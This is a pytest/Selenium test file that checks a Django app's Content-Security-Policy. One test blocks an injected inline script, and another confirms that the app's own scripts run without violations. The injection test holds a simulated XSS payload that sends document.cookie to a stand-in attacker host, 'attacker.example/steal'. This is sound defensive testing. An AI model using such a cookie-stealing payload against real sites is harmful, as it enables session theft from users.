"""The pages' Content-Security-Policy: a script smuggled into a page does not run, and the
pages' own scripts (htmx, Chart.js, api/static/api/*.js) run without one violation."""

import pytest
from selenium.webdriver.common.by import By

from .browser import log_in, wait_for

pytestmark = [pytest.mark.pipeline, pytest.mark.django_db(transaction=True)]


def violations(browser) -> list[str]:
    return [e["message"] for e in browser.get_log("browser") if "Content Security Policy" in e["message"]]


def test_an_injected_inline_script_is_refused(history, model_version, make_user, page):
    make_user("ada")
    browser = log_in(page, "ada")
    browser.get_log("browser")  # start from an empty console
    # What an XSS would do once it got markup into the page: add a script of its own.
    browser.execute_script(
        "const s = document.createElement('script');"
        "s.textContent = 'window.pwned = true';"
        "document.body.appendChild(s);"
        "const i = document.createElement('img');"
        "i.src = 'https://attacker.example/steal?c=' + document.cookie;"
        "document.body.appendChild(i);"
    )
    assert browser.execute_script("return window.pwned === undefined")
    found = wait_for(browser, lambda b: violations(b) or None, timeout=5)
    assert any("script-src" in message for message in found)


def test_every_page_runs_its_own_scripts_without_a_violation(
    history, live_worker, model_version, valid_input, make_user, page
):
    make_user("ada", is_staff=True)
    browser = log_in(page, "ada")
    browser.get_log("browser")
    pages = ["/", "/home/", "/predict/", "/history/", "/models/", "/profile/", "/accounts/password/"]
    # The datasets pages and the new model form (the shipped breast_cancer dataset is shared).
    pages += ["/datasets/", "/datasets/breast_cancer/", "/models/new/", "/models/new/?dataset=breast_cancer"]
    for path in pages:
        browser = page(path)
        assert browser.execute_script("return typeof htmx") == "object", path
        if path == "/models/":
            wait_for(
                browser,
                lambda b: b.execute_script("return !!Chart.getChart(document.querySelector('canvas'))"),
            )
        assert violations(browser) == [], path
    headers = browser.execute_script(
        "return fetch('/home/').then(r => r.headers.get('Content-Security-Policy'))"
    )
    assert "script-src 'self'" in headers
    assert "unsafe-eval" not in headers
    assert browser.find_element(By.TAG_NAME, "h1")
